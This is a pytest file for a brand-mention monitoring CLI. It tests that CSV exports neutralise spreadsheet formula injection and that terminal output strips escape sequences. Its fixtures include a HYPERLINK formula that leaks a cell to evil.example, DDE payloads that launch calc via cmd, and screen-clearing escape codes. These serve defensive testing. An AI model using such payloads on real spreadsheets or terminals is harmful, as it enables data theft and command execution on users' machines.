"""Hostile mention texts on their way to analysts: spreadsheets (CSV injection), terminals
(escape sequences) and the README's export command."""

from __future__ import annotations

import csv
import io
import json
import re
import shlex

import pytest
from typer.testing import CliRunner

from monitor.cli.app import app
from monitor.core.rows import MentionIn, mention_row
from tests.helpers import paths

runner = CliRunner()

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def add(archive, *texts: str) -> None:
    archive.add_mentions(
        [
            mention_row(
                MentionIn(id=str(i), text=t, published_at="2026-11-20T10:00:00Z"), default_brand="Acme"
            )
            for i, t in enumerate(texts)
        ]
    )


def cells(output: str, column: str) -> list[str]:
    return [r[column] for r in csv.DictReader(io.StringIO(output))]


def test_export_csv_neutralises_formula_cells(archive, watchlist_file):
    add(archive, *FORMULAS, "plain text, -not a formula inside")
    res = runner.invoke(app, ["--config", str(watchlist_file), "export", "--format", "csv"])
    assert res.exit_code == 0, res.output
    texts = cells(res.stdout, "text")
    assert sorted(texts) == sorted(["'" + f for f in FORMULAS] + ["plain text, -not a formula inside"])
    # numbers stay numbers: the rating/score columns are not prefixed
    assert all(not v.startswith("'") for v in cells(res.stdout, "id"))


def test_query_csv_neutralises_formula_cells_and_column_names(archive, watchlist_file):
    add(archive, FORMULAS[0])
    sql = 'SELECT text AS "=x", -1 AS n FROM mentions'
    res = runner.invoke(app, ["--config", str(watchlist_file), "query", "--format", "csv", sql])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(res.stdout)))
    assert rows == [["'=x", "n"], ["'" + FORMULAS[0], "-1"]]


def test_import_strip_of_a_tab_formula_is_still_neutralised_on_export(archive, watchlist_file, tmp_path):
    path = tmp_path / "m.csv"
    path.write_text('id,text\n1,"\t=1+1"\n', encoding="utf-8")
    res = runner.invoke(app, ["--config", str(watchlist_file), "import", str(path)])
    assert res.exit_code == 0, res.output
    assert archive.conn.execute("SELECT text FROM mentions").fetchone()[0] == "=1+1"
    out = runner.invoke(app, ["--config", str(watchlist_file), "export"])
    assert cells(out.stdout, "text") == ["'=1+1"]


def test_query_table_strips_terminal_control_sequences(archive, watchlist_file):
    add(archive, "vorher\x1b[2J\x1b[Hnachher \x1b]0;pwned\x07 und \x9b31m rot\r\nzeile")
    res = runner.invoke(app, ["--config", str(watchlist_file), "query", "SELECT text FROM mentions"])
    assert res.exit_code == 0, res.output
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", res.stdout), repr(res.stdout)
    assert "vorher" in res.stdout and "nachher" in res.stdout and "pwned" in res.stdout
    # csv and json are data, not terminal output: they keep the text as stored
    raw = runner.invoke(
        app, ["--config", str(watchlist_file), "query", "-f", "json", "SELECT text FROM mentions"]
    )
    assert "\x1b[2J" in json.loads(raw.stdout)[0]["text"]


def test_readme_exports_parquet_to_a_file_not_a_redirect(archive, watchlist_file, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    readme = (paths.ROOT / "README.md").read_text(encoding="utf-8")
    lines = [line for line in readme.splitlines() if "--format parquet" in line]
    assert lines and all(">" not in line and "--out" in line for line in lines), lines
    add(archive, "Lieferung kam nie")
    args = shlex.split(lines[0].split("brandpulse", 1)[1])
    # the README's brand and dates are the demo's; the file goes to tmp_path
    for option, value in (
        ("--brand", "Acme"),
        ("--since", "2026-11-01"),
        ("--out", str(tmp_path / "m.parquet")),
    ):
        args[args.index(option) + 1] = value
    res = runner.invoke(app, ["--config", str(watchlist_file), *args])
    assert res.exit_code == 0, res.output
    assert pq.read_table(tmp_path / "m.parquet").num_rows == 1
    # and without --out, parquet is refused before anything is written
    res = runner.invoke(app, ["--config", str(watchlist_file), "export", "--format", "parquet"])
    assert res.exit_code == 2 and "--out" in res.output and res.stdout == ""


def test_export_into_a_pipe_closed_early_ends_quietly(archive, watchlist_file):
    """`brandpulse export --format jsonl | head -1`: the reader has what it wants; no error."""
    import subprocess
    import sys

    add(archive, *(f"Lieferung Nummer {i} kam wieder zu spät, " + "x" * 400 for i in range(600)))
    archive.close()
    proc = subprocess.Popen(
        [sys.executable, "-m", "monitor.cli", "--config", str(watchlist_file), "export", "--format", "jsonl"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    first = proc.stdout.readline()  # then close, as head does: the rest (> a pipe's buffer) breaks
    proc.stdout.close()
    _, err = proc.communicate(timeout=120)
    assert json.loads(first)["text"].startswith("Lieferung")
    assert proc.returncode == 141 and err.decode() == "", err.decode()
